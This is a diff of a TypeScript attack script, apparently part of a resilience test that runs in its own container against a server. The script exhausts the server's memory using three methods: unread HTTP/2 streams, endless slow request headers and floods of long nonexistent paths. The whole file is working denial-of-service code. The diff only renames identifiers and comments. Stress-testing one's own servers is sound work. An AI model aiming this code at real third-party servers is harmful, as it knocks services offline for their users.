@@ -5,14 +5,14 @@ import net from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
 
 /**
- * One client that makes a server use as much memory as possible; runs in a container of its own, so that its address is
- * not the visitors'. Prints `held` once all is open, and opens again what the server closes, until it is stopped.
- *   node attack.ts HOST KIND...
+ * A client that makes a server use as much memory as possible. It runs in a separate container, so that the visitors have
+ * other addresses. Prints `ready` when all connections are open. Opens those that the server closes again until it is stopped.
+ *   node attack.ts HOST ATTACK...
  */
 
-const [host = '', ...kinds] = process.argv.slice(2);
+const [host = '', ...names] = process.argv.slice(2);
 
-/** Opens streams and never reads their answers: the flow-control window stays 0. */
+/** Opens streams whose responses it never reads, because the flow-control window remains 0. */
 async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6, streams = 128) {
   for (let connection = 0; connection < connections; connection += 1) {
     const session = http2.connect(`https://${host}:8443`, {
@@ -33,8 +33,8 @@ async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6
   }
 }
 
-/** Sends endless request heads: 62 KB each, or 7.6 KB after a refusal. */
-async function endlessHeads(connections = 800) {
+/** Sends request headers that never end: 62 KB each, or 7.6 KB after the server has closed the connection. */
+async function endlessHeaders(connections = 800) {
   const open = (size: number) => {
     const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
     const lines = Array.from({ length: 4 }, (_, line) => `X-${line}: ${'x'.repeat(size / 4)}\r\n`);
@@ -47,27 +47,26 @@ async function endlessHeads(connections = 800) {
   }
 }
 
-/** Requests unique long names of files that do not exist. */
-async function longNames(names = 2500, length = 15_000) {
+async function longPaths(count = 2500, maxLength = 15_000) {
   const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
-  const ask = (name: number, size: number) =>
+  const requestStatus = (id: number, length: number) =>
     new Promise<number>((resolve) => {
       https
-        .get({ host, port: 8443, path: `/${name}-`.padEnd(size, 'x'), agent }, (response) => {
+        .get({ host, port: 8443, path: `/${id}-`.padEnd(length, 'x'), agent }, (response) => {
           response.resume().on('close', () => resolve(response.statusCode ?? 0));
         })
         .on('error', () => resolve(0));
     });
-  const taken = (await ask(0, length)) === 200 ? length : 7600;
-  await Promise.all(Array.from({ length: names }, (_, name) => ask(name + 1, taken)));
+  const acceptedLength = (await requestStatus(0, maxLength)) === 200 ? maxLength : 7600;
+  await Promise.all(Array.from({ length: count }, (_, index) => requestStatus(index + 1, acceptedLength)));
 }
 
 const attacks = {
   unreadStreams: () => unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' }),
-  endlessHeads,
-  longNames,
+  endlessHeaders,
+  longPaths,
 };
-for (const [name, attack] of Object.entries(attacks)) if (kinds.includes(name)) await attack();
+for (const [name, attack] of Object.entries(attacks)) if (names.includes(name)) await attack();
 await delay(1000);
-console.log('held');
+console.log('ready');
 setInterval(() => undefined, 1000);
